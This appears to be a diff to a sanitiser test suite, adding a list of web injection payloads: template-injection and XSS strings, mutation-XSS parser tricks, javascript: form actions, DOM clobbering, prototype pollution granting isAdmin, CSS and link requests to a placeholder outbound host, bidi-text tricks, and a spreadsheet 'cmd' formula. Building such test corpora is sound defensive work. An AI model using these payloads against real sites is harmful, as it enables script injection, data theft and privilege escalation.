@@ -388,6 +388,38 @@ const languages = named('language', [
   `\`\`\`markdown\n[x](javascript:${JS})\n\`\`\``,
 ]);
 
+/** What other layers than Markdown would take up: templates, forms, keys of objects, what browsers parse twice. */
+const layers = named('layer', [
+  `{{constructor.constructor('${JS}')()}} \${${JS}} #{${JS}} <%= ${JS} %> [[${JS}]]`,
+  `<div v-html="'<img src=x onerror=${JS}>'" ng-app ng-csp>{{$on.constructor('${JS}')()}}</div>`,
+  `</script><script>${JS}</script>`,
+  `</SCRIPT\t\n x><svg/onload=${JS}>`,
+  `<!--<script><!--</script><img src=x onerror=${JS}>`,
+  `"-->'-->\`--><!--#set var="x" value="${JS}"-->`,
+  `</title></textarea></style></noscript></template></iframe><img src=x onerror=${JS}>`,
+  `<svg><style><img src=x onerror=${JS}></style></svg>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${JS}>">`,
+  `<math></p><style><!--</style><img src=x onerror=${JS}>--></style>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${JS}>`,
+  `<svg><a xlink:href="javascript:${JS}"><text y="9">x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${JS}'/>#x"></use></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${JS}</script>"></iframe></foreignObject></svg>`,
+  `<button formaction="javascript:${JS}" form="search">go</button>`,
+  `<input type="image" src="${OUT}/x.png" formaction="${OUT}">`,
+  `<a href="x" ping="${OUT}/ping" download="x.html">x</a>`,
+  `<link rel="preload" as="script" href="${OUT}/x.js"><link rel="dns-prefetch" href="${OUT}">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
+  `<div id="__remixContext"></div><a name="__remixContext" id="location" href="${OUT}"></a>`,
+  `{"__proto__": {"innerHTML": "<img src=x onerror=${JS}>", "isAdmin": true}}`,
+  `url(${OUT}/x.png);} * {background: url("${OUT}/y.png")} @import "${OUT}/x.css";`,
+  `[x](/a "\u202e\u2066" )![\u202etxet](${OUT}/x.png "\u200b\u200d")`,
+  `\u202e${'\u202b'.repeat(30)}<b>\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u2028 \u2029 a\u200b\u200c\u200d\u2060b`,
+  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324'.repeat(20),
+  'w'.repeat(2_000),
+  `https://${TRIPWIRE_HOST}/${'long'.repeat(300)}`,
+  `=cmd|'/C calc'!A0 +1+1 @SUM(1+1) -2+3`,
+]);
+
 export const PAYLOADS: Payload[] = [
   ...rawHtml,
   ...schemes,
@@ -398,4 +430,5 @@ export const PAYLOADS: Payload[] = [
   ...formulas,
   ...diagrams,
   ...languages,
+  ...layers,
 ];
